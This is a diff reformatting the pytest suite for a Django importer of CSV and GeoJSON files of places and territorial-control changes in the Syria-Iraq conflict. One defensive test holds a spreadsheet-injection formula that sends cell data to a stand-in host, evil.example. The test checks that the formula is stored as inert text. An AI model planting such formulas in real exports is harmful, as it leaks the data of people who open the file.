@@ -25,10 +25,31 @@ from apps.users.roles import EDITORS, REVIEWERS
 from tests.factories import GroupFactory, SourceFactory, TheaterFactory
 
 pytestmark = pytest.mark.django_db
-CHANGE_HEADER = ["place", "date", "date_precision", "status", "controller", "challengers",
-                 "supported_by", "confidence", "summary", "sources"]  # fmt: skip
-PLACE_HEADER = ["slug", "name", "aliases", "kind", "country", "lat", "lon", "population",
-                "importance", "theater", "area"]  # fmt: skip
+CHANGE_HEADER = [
+    "place",
+    "date",
+    "date_precision",
+    "status",
+    "controller",
+    "challengers",
+    "supported_by",
+    "confidence",
+    "summary",
+    "sources",
+]
+PLACE_HEADER = [
+    "slug",
+    "name",
+    "aliases",
+    "kind",
+    "country",
+    "lat",
+    "lon",
+    "population",
+    "importance",
+    "theater",
+    "area",
+]
 
 
 @pytest.fixture
@@ -74,8 +95,14 @@ def csv_bytes(header: list[str], rows: list[list]) -> bytes:
 
 
 def run(content: bytes, by, *, filename="file.csv", theater=None, dry_run=False, publish=False):
-    job = import_job_create(user=by, filename=filename, chunks=[content], theater=theater,
-                            dry_run=dry_run, publish=publish)  # fmt: skip
+    job = import_job_create(
+        user=by,
+        filename=filename,
+        chunks=[content],
+        theater=theater,
+        dry_run=dry_run,
+        publish=publish,
+    )
     run_job(job)
     job.refresh_from_db()
     return job
@@ -86,22 +113,74 @@ def counts() -> tuple[int, int, int]:
 
 
 NEW_PLACES = [
-    ["tall-abyad-east", "Tall Abyad East", "Tal Abyad Sharqi", "village", "SY", "36.70", "38.99",
-     "1200", "2", "syria-iraq-2014-2019", ""],
-    ["", "Ayn Isa North", "Ain Issa North|ʿAyn ʿĪsā North", "village", "SY", "36.40", "38.87",
-     "", "", "syria-iraq-2014-2019", ""],
-]  # fmt: skip
+    [
+        "tall-abyad-east",
+        "Tall Abyad East",
+        "Tal Abyad Sharqi",
+        "village",
+        "SY",
+        "36.70",
+        "38.99",
+        "1200",
+        "2",
+        "syria-iraq-2014-2019",
+        "",
+    ],
+    [
+        "",
+        "Ayn Isa North",
+        "Ain Issa North|ʿAyn ʿĪsā North",
+        "village",
+        "SY",
+        "36.40",
+        "38.87",
+        "",
+        "",
+        "syria-iraq-2014-2019",
+        "",
+    ],
+]
 
 
 def new_place_changes() -> list[list]:
     return [
-        ["tall-abyad-east", "2014-07-01", "day", "controlled", "islamic-state", "", "", "likely",
-         "Taken with Tell Abyad.", "houston-chronicle-2017-11-04"],
-        ["Ain Issa North", "2015-06-20", "day", "controlled", "SDF", "", "", "confirmed", "",
-         "houston-chronicle-2017-11-04"],
-        ["tall-abyad-east", "2015-06-16", "day", "contested", "islamic-state", "sdf", "", "",
-         "", "houston-chronicle-2017-11-04"],
-    ]  # fmt: skip
+        [
+            "tall-abyad-east",
+            "2014-07-01",
+            "day",
+            "controlled",
+            "islamic-state",
+            "",
+            "",
+            "likely",
+            "Taken with Tell Abyad.",
+            "houston-chronicle-2017-11-04",
+        ],
+        [
+            "Ain Issa North",
+            "2015-06-20",
+            "day",
+            "controlled",
+            "SDF",
+            "",
+            "",
+            "confirmed",
+            "",
+            "houston-chronicle-2017-11-04",
+        ],
+        [
+            "tall-abyad-east",
+            "2015-06-16",
+            "day",
+            "contested",
+            "islamic-state",
+            "sdf",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ],
+    ]
 
 
 def test_the_reference_changes_re_imported_change_nothing(reference, reviewer):
@@ -122,8 +201,9 @@ def test_a_valid_file_creates_places_and_changes_and_re_importing_changes_nothin
     ain = Place.objects.get(name="Ayn Isa North")  # found again by any spelling below
     assert ain.slug == "ayn-isa-north"  # named without a slug: one from its name
 
-    changes = run(csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater,
-                  publish=True)  # fmt: skip
+    changes = run(
+        csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater, publish=True
+    )
     assert changes.status == "succeeded", changes.errors
     assert changes.counts == {"changes": {"created": 3}}
     east = Place.objects.get(slug="tall-abyad-east")
@@ -134,8 +214,9 @@ def test_a_valid_file_creates_places_and_changes_and_re_importing_changes_nothin
     assert revisions.count() == 3 and {r.user for r in revisions} == {reviewer}
 
     before = counts()
-    again = run(csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater,
-                publish=True)  # fmt: skip
+    again = run(
+        csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater, publish=True
+    )
     assert again.counts == {"changes": {"unchanged": 3}} and counts() == before
     places_again = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer, theater=theater)
     assert places_again.counts == {"places": {"unchanged": 2}}
@@ -146,10 +227,20 @@ def test_one_bad_row_among_1000_writes_nothing_and_names_the_row(theater, review
     assert place_job.status == "succeeded"
     groups = ["islamic-state", "sdf", "syrian-government"]  # any row left out changes nothing
     rows = [
-        ["tall-abyad-east", (date(2015, 1, 1) + timedelta(days=i)).isoformat(), "day",
-         "controlled", groups[i % 3], "", "", "", "", "houston-chronicle-2017-11-04"]
+        [
+            "tall-abyad-east",
+            (date(2015, 1, 1) + timedelta(days=i)).isoformat(),
+            "day",
+            "controlled",
+            groups[i % 3],
+            "",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ]
         for i in range(1000)
-    ]  # fmt: skip
+    ]
     rows[516][1] = (date.today() + timedelta(days=3)).isoformat()  # line 518 of the file
     before = counts()
     job = run(csv_bytes(CHANGE_HEADER, rows), reviewer, publish=True)
@@ -169,19 +260,27 @@ def test_one_bad_row_among_1000_writes_nothing_and_names_the_row(theater, review
     ("content", "filename", "words", "row"),
     [
         (b'place,date,status\nmosul,"2015-01-01,controlled\n', "f.csv", "malformed csv", 2),
-        ("place,date,status\nmosul,2015-01-01,contrôlé\n".encode("latin-1"), "f.csv",
-         "not utf-8", 2),
+        (
+            "place,date,status\nmosul,2015-01-01,contrôlé\n".encode("latin-1"),
+            "f.csv",
+            "not utf-8",
+            2,
+        ),
         (b"place,status\nmosul,controlled\n", "f.csv", "cannot tell", 1),
         (b"place,date,controller\nmosul,2015-01-01,sdf\n", "f.csv", "cannot tell", 1),
-        (b"place,date,status,colour\nmosul,2015-01-01,controlled,red\n", "f.csv",
-         "unknown column", 1),
+        (
+            b"place,date,status,colour\nmosul,2015-01-01,controlled,red\n",
+            "f.csv",
+            "unknown column",
+            1,
+        ),
         (b"slug,name,kind,lat,lon\nx,X,town,35,40\n", "f.csv", "missing column(s): country", 1),
         (b"", "f.csv", "empty", None),
         (b"place,date,status\n", "f.csv", "no rows", None),
         (b'{"type": "FeatureCollection", "features": [', "f.geojson", "not valid json", 1),
         (b'{"type": "Point", "coordinates": [1, 2]}', "f.geojson", "featurecollection", None),
     ],
-)  # fmt: skip
+)
 def test_unreadable_files_get_a_clear_report(theater, reviewer, content, filename, words, row):
     before = counts()
     job = run(content, reviewer, filename=filename)
@@ -198,52 +297,122 @@ def test_a_10_mb_file_of_noise_is_refused_clearly(theater, reviewer):
 
 def test_a_geojson_with_an_invalid_geometry_names_the_feature(theater, reviewer):
     features = [
-        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
-         "properties": {"slug": "good-one", "name": "Good One", "kind": "village",
-                        "country": "SY"}},
-        {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [[[1, 2], [3, 4]]]},
-         "properties": {"slug": "bad-one", "name": "Bad One", "kind": "village",
-                        "country": "SY", "lat": 36.5, "lon": 38.8}},
-    ]  # fmt: skip
+        {
+            "type": "Feature",
+            "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
+            "properties": {
+                "slug": "good-one",
+                "name": "Good One",
+                "kind": "village",
+                "country": "SY",
+            },
+        },
+        {
+            "type": "Feature",
+            "geometry": {"type": "Polygon", "coordinates": [[[1, 2], [3, 4]]]},
+            "properties": {
+                "slug": "bad-one",
+                "name": "Bad One",
+                "kind": "village",
+                "country": "SY",
+                "lat": 36.5,
+                "lon": 38.8,
+            },
+        },
+    ]
     content = json.dumps({"type": "FeatureCollection", "features": features}).encode()
     before = counts()
     job = run(content, reviewer, filename="places.geojson", theater=theater)
     assert job.status == "failed" and counts() == before
     assert [(e["row"], e["column"]) for e in job.errors] == [(2, "geometry")], job.errors
 
-    job = run(json.dumps({"type": "FeatureCollection", "features": features[:1]}).encode(),
-              reviewer, filename="places.geojson", theater=theater)  # fmt: skip
+    job = run(
+        json.dumps({"type": "FeatureCollection", "features": features[:1]}).encode(),
+        reviewer,
+        filename="places.geojson",
+        theater=theater,
+    )
     assert job.status == "succeeded", job.errors
     assert Place.objects.get(slug="good-one").location.x == pytest.approx(38.9)
 
 
 def test_a_geojson_of_places_and_changes(theater, reviewer):
     features = [
-        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
-         "properties": {"slug": "both-kinds", "name": "Both Kinds", "kind": "village",
-                        "country": "SY"}},
-        {"type": "Feature", "geometry": None,
-         "properties": {"place": "both-kinds", "date": "2016-01-01", "status": "controlled",
-                        "controller": "sdf", "sources": ["houston-chronicle-2017-11-04"]}},
-    ]  # fmt: skip
-    job = run(json.dumps({"type": "FeatureCollection", "features": features}).encode(),
-              reviewer, filename="mixed.geojson", theater=theater)  # fmt: skip
+        {
+            "type": "Feature",
+            "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
+            "properties": {
+                "slug": "both-kinds",
+                "name": "Both Kinds",
+                "kind": "village",
+                "country": "SY",
+            },
+        },
+        {
+            "type": "Feature",
+            "geometry": None,
+            "properties": {
+                "place": "both-kinds",
+                "date": "2016-01-01",
+                "status": "controlled",
+                "controller": "sdf",
+                "sources": ["houston-chronicle-2017-11-04"],
+            },
+        },
+    ]
+    job = run(
+        json.dumps({"type": "FeatureCollection", "features": features}).encode(),
+        reviewer,
+        filename="mixed.geojson",
+        theater=theater,
+    )
     assert job.counts == {"places": {"created": 1}, "changes": {"created": 1}}, job.errors
     assert ControlChange.objects.get(place__slug="both-kinds").review_state == "draft"
 
 
 def test_matching_errors_are_errors_not_guesses(theater, reviewer):
-    run(csv_bytes(PLACE_HEADER, [
-        ["twin-a", "Twin", "", "village", "SY", "36.1", "38.1", "", "", "syria-iraq-2014-2019", ""],
-        ["twin-b", "Twin", "", "village", "SY", "36.2", "38.2", "", "", "syria-iraq-2014-2019", ""],
-    ]), reviewer, theater=theater)  # fmt: skip
+    run(
+        csv_bytes(
+            PLACE_HEADER,
+            [
+                [
+                    "twin-a",
+                    "Twin",
+                    "",
+                    "village",
+                    "SY",
+                    "36.1",
+                    "38.1",
+                    "",
+                    "",
+                    "syria-iraq-2014-2019",
+                    "",
+                ],
+                [
+                    "twin-b",
+                    "Twin",
+                    "",
+                    "village",
+                    "SY",
+                    "36.2",
+                    "38.2",
+                    "",
+                    "",
+                    "syria-iraq-2014-2019",
+                    "",
+                ],
+            ],
+        ),
+        reviewer,
+        theater=theater,
+    )
     rows = [
         ["Twin", "2015-01-01", "day", "controlled", "sdf", "", "", "", "", ""],
         ["Nowhere", "2015-01-01", "day", "controlled", "sdf", "", "", "", "", ""],
         ["twin-a", "2015-01-01", "day", "controlled", "the avengers", "", "", "", "", ""],
         ["twin-a", "2015-02-01", "day", "controlled", "sdf", "", "", "", "", "no-such-source"],
         ["twin-a", "2015-03-15", "month", "controlled", "islamic-state", "", "", "", "", ""],
-    ]  # fmt: skip
+    ]
     job = run(csv_bytes(CHANGE_HEADER, rows), reviewer, theater=theater)
     found = {(e["row"], e["column"]): e["message"] for e in job.errors}
     assert "matches 2 places" in found[(2, "place")] and "twin-a" in found[(2, "place")]
@@ -266,10 +435,24 @@ def test_an_editor_imports_drafts_but_cannot_publish(theater, editor):
     run(csv_bytes(PLACE_HEADER, NEW_PLACES), editor, theater=theater)
     job = run(csv_bytes(CHANGE_HEADER, new_place_changes()), editor, theater=theater)
     assert job.status == "succeeded", job.errors
-    assert set(ControlChange.objects.filter(place__slug="tall-abyad-east")
-               .values_list("review_state", flat=True)) == {"draft"}  # fmt: skip
-    row = ["tall-abyad-east", "2016-02-01", "day", "controlled", "sdf", "", "", "", "", "",
-           "published"]  # fmt: skip
+    assert set(
+        ControlChange.objects.filter(place__slug="tall-abyad-east").values_list(
+            "review_state", flat=True
+        )
+    ) == {"draft"}
+    row = [
+        "tall-abyad-east",
+        "2016-02-01",
+        "day",
+        "controlled",
+        "sdf",
+        "",
+        "",
+        "",
+        "",
+        "",
+        "published",
+    ]
     published = run(csv_bytes([*CHANGE_HEADER, "review_state"], [row]), editor)
     assert published.status == "failed"
     assert published.errors[0]["column"] == "review_state"
@@ -349,12 +532,18 @@ def test_a_keyless_source_round_trips_by_its_export_name(theater, reviewer):
 
 def test_columns_a_file_lacks_keep_the_stored_values(theater, reviewer):
     run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
-    job = run(b"slug,name,kind,country,lat,lon\n"
-              b"tall-abyad-east,Tall Abyad East,town,SY,36.70,38.99\n", reviewer)  # fmt: skip
+    job = run(
+        b"slug,name,kind,country,lat,lon\ntall-abyad-east,Tall Abyad East,town,SY,36.70,38.99\n",
+        reviewer,
+    )
     assert job.counts == {"places": {"updated": 1}}, job.errors  # the kind only
     place = Place.objects.get(slug="tall-abyad-east")
     assert (place.kind, place.population, place.importance, place.aliases) == (
-        "town", 1200, 2, ["Tal Abyad Sharqi"])  # fmt: skip
+        "town",
+        1200,
+        2,
+        ["Tal Abyad Sharqi"],
+    )
 
 
 def test_a_name_is_matched_in_the_row_s_theater(theater, reviewer):
@@ -369,15 +558,47 @@ def test_a_name_is_matched_in_the_row_s_theater(theater, reviewer):
 
 def test_an_edit_is_checked_against_the_file_s_new_rows_too(theater, reviewer):
     run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
-    first = [["tall-abyad-east", "2015-07-10", "day", "controlled", "islamic-state", "", "", "",
-              "", "houston-chronicle-2017-11-04"]]  # fmt: skip
+    first = [
+        [
+            "tall-abyad-east",
+            "2015-07-10",
+            "day",
+            "controlled",
+            "islamic-state",
+            "",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ]
+    ]
     assert run(csv_bytes(CHANGE_HEADER, first), reviewer, publish=True).status == "succeeded"
     both = [
-        ["tall-abyad-east", "2015-01-01", "day", "controlled", "sdf", "", "", "", "",
-         "houston-chronicle-2017-11-04"],
-        ["tall-abyad-east", "2015-07-10", "day", "controlled", "sdf", "", "", "", "",
-         "houston-chronicle-2017-11-04"],
-    ]  # fmt: skip
+        [
+            "tall-abyad-east",
+            "2015-01-01",
+            "day",
+            "controlled",
+            "sdf",
+            "",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ],
+        [
+            "tall-abyad-east",
+            "2015-07-10",
+            "day",
+            "controlled",
+            "sdf",
+            "",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ],
+    ]
     job = run(csv_bytes(CHANGE_HEADER, both), reviewer, publish=True)
     assert job.status == "failed" and "changes nothing" in job.errors[0]["message"], job.errors
     assert "#None" not in job.errors[0]["message"]
@@ -417,22 +638,71 @@ def test_hostile_geojson_gets_a_report_not_a_crash(theater, reviewer, content):
 
 def test_cells_quoted_against_formulas_are_imported_as_their_text(theater, reviewer):
     formula = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
-    places = [["formula-town", "Formula Town", "'=1+1|'-5", "village", "SY", "36.70", "38.99",
-               "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    places = [
+        [
+            "formula-town",
+            "Formula Town",
+            "'=1+1|'-5",
+            "village",
+            "SY",
+            "36.70",
+            "38.99",
+            "",
+            "",
+            "syria-iraq-2014-2019",
+            "",
+        ]
+    ]
     assert run(csv_bytes(PLACE_HEADER, places), reviewer).status == "succeeded"
     place = Place.objects.get(slug="formula-town")
     assert place.aliases == ["=1+1", "'-5"]  # the cell's text, split at |
-    aliases = [["formula-town", "Formula Town", "'=1+1", "village", "SY", "36.70", "38.99",
-                "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    aliases = [
+        [
+            "formula-town",
+            "Formula Town",
+            "'=1+1",
+            "village",
+            "SY",
+            "36.70",
+            "38.99",
+            "",
+            "",
+            "syria-iraq-2014-2019",
+            "",
+        ]
+    ]
     assert run(csv_bytes(PLACE_HEADER, aliases), reviewer).status == "succeeded"
     assert Place.objects.get(slug="formula-town").aliases == ["=1+1"]
-    numbers = [["formula-town", "Formula Town", "'-5", "village", "SY", "36.70", "38.99",
-                "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    numbers = [
+        [
+            "formula-town",
+            "Formula Town",
+            "'-5",
+            "village",
+            "SY",
+            "36.70",
+            "38.99",
+            "",
+            "",
+            "syria-iraq-2014-2019",
+            "",
+        ]
+    ]
     assert run(csv_bytes(PLACE_HEADER, numbers), reviewer).status == "succeeded"
     assert Place.objects.get(slug="formula-town").aliases == ["'-5"]  # numbers are not quoted
 
-    row = ["formula-town", "2016-01-01", "day", "controlled", "sdf", "", "", "", f"'{formula}",
-           "houston-chronicle-2017-11-04"]  # fmt: skip
+    row = [
+        "formula-town",
+        "2016-01-01",
+        "day",
+        "controlled",
+        "sdf",
+        "",
+        "",
+        "",
+        f"'{formula}",
+        "houston-chronicle-2017-11-04",
+    ]
     job = run(csv_bytes(CHANGE_HEADER, [row]), reviewer)
     assert job.status == "succeeded", job.errors
     assert ControlChange.objects.get(place=place).summary == formula
@@ -456,11 +726,10 @@ def test_load_reference_takes_the_formula_quote_off(tmp_path):
         "theaters": "slug,name,start,min_lon,min_lat,max_lon,max_lat\nt,T,2014-01-01,35,28,45,38\n",
         "groups": "slug,name,aliases\ng,G,'=1+1|'-5\n",
         "sources": "key,title\ns,'@Source\n",
-        "places": "slug,name,aliases,kind,country,lat,lon,theater\n"
-        "p,P,'=1+1,town,SY,33,40,t\n",
+        "places": "slug,name,aliases,kind,country,lat,lon,theater\np,P,'=1+1,town,SY,33,40,t\n",
         "changes": "place,date,status,controller,sources,summary\n"
         "p,2015-01-01,controlled,g,s,'+ taken\n",
-    }  # fmt: skip
+    }
     for name, text in files.items():
         (tmp_path / f"{name}.csv").write_text(text, encoding="utf-8")
     load_dataset(tmp_path)
@@ -480,9 +749,21 @@ def test_each_row_is_checked_against_its_neighbours_only(theater, reviewer, monk
 
     run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
     groups = ["islamic-state", "sdf"]
-    rows = [["tall-abyad-east", (date(2000, 1, 1) + timedelta(days=i)).isoformat(), "day",
-             "controlled", groups[(i // 2) % 2], "", "", "", "", "houston-chronicle-2017-11-04"]
-            for i in range(600)]  # fmt: skip
+    rows = [
+        [
+            "tall-abyad-east",
+            (date(2000, 1, 1) + timedelta(days=i)).isoformat(),
+            "day",
+            "controlled",
+            groups[(i // 2) % 2],
+            "",
+            "",
+            "",
+            "",
+            "houston-chronicle-2017-11-04",
+        ]
+        for i in range(600)
+    ]
     assert run(csv_bytes(CHANGE_HEADER, rows[::2]), reviewer, publish=True).status == "succeeded"
     sizes = []
     check = rules.check_change
@@ -508,27 +789,37 @@ def test_neighbour_rules_across_stored_and_new_rows(theater, reviewer):
         return ["tall-abyad-east", day, "day", "controlled", group, "", "", "", "", source, state]
 
     header = [*CHANGE_HEADER, "review_state"]
-    stored = [row("2015-01-01", "islamic-state", "published"), row("2015-03-01", "sdf", "draft"),
-              row("2015-06-01", "sdf", "published")]  # fmt: skip
+    stored = [
+        row("2015-01-01", "islamic-state", "published"),
+        row("2015-03-01", "sdf", "draft"),
+        row("2015-06-01", "sdf", "published"),
+    ]
     assert run(csv_bytes(header, stored), reviewer).status == "succeeded"
     # published on 2015-02-01 like the published one before it (the draft in between is
     # later): changes nothing
     job = run(csv_bytes(header, [row("2015-02-01", "islamic-state", "published")]), reviewer)
-    assert "changes nothing" in job.errors[0]["message"] and "2015-01-01" in job.errors[0][
-        "message"]  # fmt: skip
+    assert (
+        "changes nothing" in job.errors[0]["message"] and "2015-01-01" in job.errors[0]["message"]
+    )
     # a published row after the draft compares with the published change before it
-    job = run(csv_bytes(header, [row("2015-04-01", "islamic-state", "published")]), reviewer,
-              dry_run=True)  # fmt: skip
+    job = run(
+        csv_bytes(header, [row("2015-04-01", "islamic-state", "published")]), reviewer, dry_run=True
+    )
     assert "changes nothing" in job.errors[0]["message"], job.errors
     # a draft row after the draft compares with the draft: sdf holds, islamic-state is new
-    job = run(csv_bytes(header, [row("2015-04-01", "islamic-state", "draft")]), reviewer,
-              dry_run=True)  # fmt: skip
+    job = run(
+        csv_bytes(header, [row("2015-04-01", "islamic-state", "draft")]), reviewer, dry_run=True
+    )
     assert job.status == "succeeded", job.errors
     job = run(csv_bytes(header, [row("2015-04-01", "sdf", "draft")]), reviewer, dry_run=True)
     assert "the draft change #" in job.errors[0]["message"], job.errors
     # two rows on one day
-    job = run(csv_bytes(header, [row("2016-01-01", "islamic-state"),
-                                 row("2016-01-01", "syrian-government")]), reviewer)  # fmt: skip
+    job = run(
+        csv_bytes(
+            header, [row("2016-01-01", "islamic-state"), row("2016-01-01", "syrian-government")]
+        ),
+        reviewer,
+    )
     assert [e["row"] for e in job.errors] == [3]
     assert "another row of this import" in job.errors[0]["message"]
     # a new row on a stored day is an edit of that change
